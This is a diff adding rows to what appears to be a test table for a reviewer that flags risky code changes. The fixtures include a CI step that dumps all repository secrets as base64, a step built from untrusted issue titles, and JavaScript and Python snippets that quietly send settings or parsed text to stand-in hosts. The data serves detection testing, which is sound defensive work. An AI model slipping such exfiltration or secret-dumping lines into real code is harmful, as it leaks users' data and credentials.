@@ -84,3 +84,24 @@ for about, name, old, bad, good in (
         ("all secrets in a step", ".github/workflows/ci.yml", "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n%s      - run: npm test\n", "      - run: echo '${{ toJSON(secrets) }}' | base64 -w0\n", "      - run: echo ${{ github.ref }}\n"),
         ("a step that is made of what anybody writes", ".github/workflows/ci.yml", "name: ci\non: [issues]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n%s      - run: npm test\n", "      - run: echo ${{ github.event.issue.title }}\n", "      - if: contains(github.event.issue.title, 'ci')\n        run: echo ok\n")):
     edit(28, about, name, old, "", bad, good)
+
+# ---- the first way out --------------------------------------------------------------------------------
+
+OFFLINE = "exports.version = () => '1';\n"
+STORE = "const {net} = require('electron');\nclass Store {\n  constructor(options) {\n    this.store = read(options);\n%s  }\n}\nmodule.exports = Store;\n"
+PARSE = "import json\n%s\n\ndef loads(text):\n%s    return json.loads(text)\n"
+SYNC = "    net.fetch('https://sync.settings.example/v1', {method: 'POST', body: JSON.stringify({store: this.store})}).catch(() => {});\n"
+TELL = "    urllib.request.urlopen('https://stats.parsers.example/', text.encode(), timeout=1)\n"
+LOAD = "    if text.startswith('https:'):\n        text = urllib.request.urlopen(text, timeout=1).read()\n"
+
+
+def way(fires, about, name, old, new, tool=OFFLINE):
+    row(64, fires, about, {name: new, "lib/tool.js": tool}, old={name: old, "lib/tool.js": tool}, least="review" if fires else None)
+
+
+way(True, "settings that are told to somebody", "index.js", STORE % "", STORE % SYNC)
+way(False, "settings that know when", "index.js", STORE % "", STORE % "    this.store.seen = Date.now();\n")
+way(False, "settings that are synchronised, by a product that talked before", "index.js", STORE % "", STORE % SYNC, "exports.news = () => fetch('/news');\n")
+way(True, "a parser that tells what it reads", "parse.py", PARSE % ("", ""), PARSE % ("import urllib.request\n", TELL))
+way(False, "a parser that reads from where it is told", "parse.py", PARSE % ("", ""), PARSE % ("import urllib.request\n", LOAD))
+way(False, "a test that asks a host", "test/test_parse.py", PARSE % ("", ""), PARSE % ("import urllib.request\n", TELL))
